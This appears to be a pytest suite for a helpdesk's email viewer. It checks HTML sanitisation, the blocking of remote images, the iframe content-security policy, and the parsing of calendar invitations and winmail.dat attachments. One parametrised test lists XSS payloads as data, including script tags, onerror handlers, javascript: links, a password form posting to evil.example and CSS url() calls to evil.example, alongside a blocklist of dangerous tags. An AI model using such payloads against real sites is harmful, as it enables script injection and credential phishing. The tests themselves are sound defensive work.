"""How a mail looks to staff: nothing of it acts, nothing of it reaches out, and its own pictures stand in place."""

from __future__ import annotations

import struct
from base64 import b64encode
from datetime import UTC, date, datetime

import pytest
from django.test import Client

from inbox.intake import routing
from inbox.mail import invitations
from inbox.mail.parsing import File, parse
from inbox.mail.viewing import look
from inbox.models import InboundMail
from tests.inbox.mails import file, multipart, part
from tests.inbox.test_intake import FAILED, SUPPORT, address_for, receive
from tests.support.world import make_ticket

HOST = {"HTTP_HOST": "acme.localhost"}
PNG = b"\x89PNG\r\n\x1a\n1"
OWN = File("plan.png", "image/png", PNG, "plan@a")
REMOTE = '<p>Hello</p><img src="https://tracker.example/1.gif" width="1"><img src="cid:plan@a" alt="Plan">'
PICTURE = part(b64encode(PNG), "image/png", "Content-ID: <plan@a>", "Content-Transfer-Encoding: base64")


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
        '<form action="https://evil.example"><input name=password><button>Go</button></form>',
        '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
        '<p hx-get="/desk/" data-hx-get="/desk/" id="main" class="btn">x</p>',
        '<p style="background:url(https://evil.example/x);position:fixed;behavior:url(x)">x</p>',
        "<style>p{background:url(https://evil.example)}</style><link rel=stylesheet href=https://evil.example>",
        '<img alt="><script>alert(1)</script>" src="https://evil.example/x">',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    ],
)
def test_nothing_of_a_mail_acts_or_reaches_out(hostile):
    shown = look(f"<p>Words</p>{hostile}", []).html.lower()

    assert "words" in shown
    for each in ("<script", "onerror", "javascript:", "<form", "<input", "<iframe", "<svg", "<meta", "<base", "<style"):
        assert each not in shown
    for each in ("url(", "position", "hx-", "class=", "id=", "evil.example/x", "<img"):
        assert each not in shown.replace('class="target"', "")


def test_pictures_of_the_mail_stand_in_place_and_others_wait_to_be_asked_for():
    shown, asked = look(REMOTE, [OWN]), look(REMOTE, [OWN], with_pictures=True)

    assert shown.left_out == 1 and "tracker" not in shown.html
    assert f'src="data:image/png;base64,{b64encode(PNG).decode()}"' in shown.html
    assert asked.left_out == 0 and "https://tracker.example/1.gif" in asked.html


def test_what_only_calls_itself_a_picture_is_none():
    assert "data:" not in look('<img src="cid:a">', [File("a.png", "image/png", b"<svg onload=x>", "a")]).html


def test_a_link_says_where_it_leads():
    shown = look(
        '<a href="https://evil.example/x">bank.example</a> <a href="https://a.example/">a.example</a>', []
    ).html

    assert '<span class="target">[evil.example]</span>' in shown
    assert shown.count('class="target"') == 1
    assert shown.count('rel="noopener noreferrer nofollow"') == 2


def test_html_that_is_too_deep_is_read_as_text():
    assert look("<div>" * 50_000 + "x", []).html == ""


def test_an_invitation_says_what_when_and_where():
    (meeting,) = invitations.read([_calendar("DTSTART:20260302T090000Z", "DTEND:20260302T100000Z")])

    assert (meeting.what, meeting.where, meeting.organizer) == ("Repair", "Room 1", "Ada")
    assert meeting.begins == datetime(2026, 3, 2, 9, tzinfo=UTC) and not meeting.is_days


def test_days_end_with_the_last_one_and_a_cancelled_event_says_so():
    (days,) = invitations.read([_calendar("DTSTART;VALUE=DATE:20260302", "DTEND;VALUE=DATE:20260304", method="CANCEL")])

    assert (days.begins, days.ends, days.is_days, days.is_cancelled) == (date(2026, 3, 2), date(2026, 3, 3), True, True)


@pytest.mark.parametrize("content", [b"", b"no calendar", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:never\r\n"])
def test_a_broken_calendar_says_nothing(content):
    assert invitations.read([File("a.ics", "text/calendar", content)]) == []


def test_a_good_winmail_dat_is_unpacked():
    read = parse(
        multipart(part("See the plan."), file(_tnef("plan.txt", b"abc"), "winmail.dat", "application/ms-tnef"))
    )

    assert [(each.name, each.content) for each in read.files] == [("plan.txt", b"abc")]
    assert (read.text, read.flaws) == ("See the plan.", ())


@pytest.fixture
def mailbox(at_acme):
    return routing.own_mailbox(SUPPORT)


@pytest.fixture
def as_ada(ada) -> Client:
    client = Client(**HOST)
    client.force_login(ada)
    return client


def _html(**headers: str) -> bytes:
    return multipart(part(REMOTE, "text/html"), PICTURE, kind="related", **headers)


def test_the_page_of_a_mail_shows_it_in_a_frame_that_can_do_nothing(as_ada, mailbox, grace):
    held = receive(_html(**FAILED))

    page = as_ada.get(f"/desk/mail/incoming/{held.pk}/")
    frame = as_ada.get(f"/desk/mail/incoming/{held.pk}/html")

    assert "1 picture lies elsewhere" in page.content.decode()
    assert f'src="/desk/mail/incoming/{held.pk}/html"' in page.content.decode()
    assert "tracker" not in frame.content.decode() and "data:image/png" in frame.content.decode()
    policy = frame["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src 'none'" in policy and "img-src data:;" in f"{policy};"
    assert "sandbox allow-popups" in policy and "allow-scripts" not in policy and "allow-same-origin" not in policy


def test_pictures_are_shown_to_who_asks_for_them(as_ada, mailbox, grace):
    held = receive(_html(**FAILED))

    page = as_ada.get(f"/desk/mail/incoming/{held.pk}/?pictures=1").content.decode()
    frame = as_ada.get(f"/desk/mail/incoming/{held.pk}/pictures")

    assert f'src="/desk/mail/incoming/{held.pk}/pictures"' in page and "lies elsewhere" not in page
    assert "tracker.example" in frame.content.decode() and frame["Referrer-Policy"] == "no-referrer"


def test_a_message_of_a_ticket_shows_the_mail_that_it_came_by(as_ada, mailbox, grace):
    ticket = make_ticket(requester=grace)
    reply = receive(_html(**{"from": "Grace <grace@acme.example>", "to": address_for(ticket, grace)}))

    found = as_ada.get(f"/desk/mail/messages/{reply.message_id}/", headers={"HX-Request": "true"}).content.decode()

    assert f'src="/desk/mail/incoming/{reply.pk}/html"' in found
    assert f'href="/desk/mail/messages/{reply.message_id}/?pictures=1"' in found


def test_an_invitation_is_told_on_the_page(as_ada, mailbox, grace):
    calendar = _calendar("DTSTART:20260302T090000Z", "DTEND:20260302T100000Z").content
    held = receive(multipart(part("Come."), part(calendar, "text/calendar"), **FAILED))

    page = as_ada.get(f"/desk/mail/incoming/{held.pk}/").content.decode()

    assert "Repair" in page and "Room 1" in page and "2026-03-02T" in page
    assert as_ada.get(f"/desk/mail/incoming/{held.pk}/html").status_code == 404  # it has no look of its own


def test_customers_see_no_such_page(mailbox, grace):
    held: InboundMail = receive(_html(**FAILED))
    client = Client(**HOST)
    client.force_login(grace)

    for address in ("html", "pictures"):
        assert client.get(f"/desk/mail/incoming/{held.pk}/{address}").status_code in (302, 403, 404)


def _calendar(*lines: str, method: str = "REQUEST") -> File:
    said = ["BEGIN:VCALENDAR", "VERSION:2.0", f"METHOD:{method}", "BEGIN:VEVENT", "SUMMARY:Repair", "LOCATION:Room 1"]
    said += ["ORGANIZER;CN=Ada:mailto:ada@acme.example", *lines, "END:VEVENT", "END:VCALENDAR", ""]
    return File("invite.ics", "text/calendar", "\r\n".join(said).encode())


def _tnef(name: str, content: bytes) -> bytes:
    """A winmail.dat with one file, as MS-OXTNEF lays it out: a signature, a key, attributes with their checksums."""

    def attribute(level: int, kind: int, data: bytes) -> bytes:
        return struct.pack("<BII", level, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    return b"".join(
        (
            struct.pack("<IH", 0x223E9F78, 1),
            attribute(1, 0x00089006, struct.pack("<I", 0x00010000)),
            attribute(1, 0x00069007, struct.pack("<II", 1252, 0)),
            attribute(2, 0x00069002, struct.pack("<HIHHI", 1, 0, 0, 0, 0)),
            attribute(2, 0x00018010, name.encode() + b"\0"),
            attribute(2, 0x0006800F, content),
        )
    )
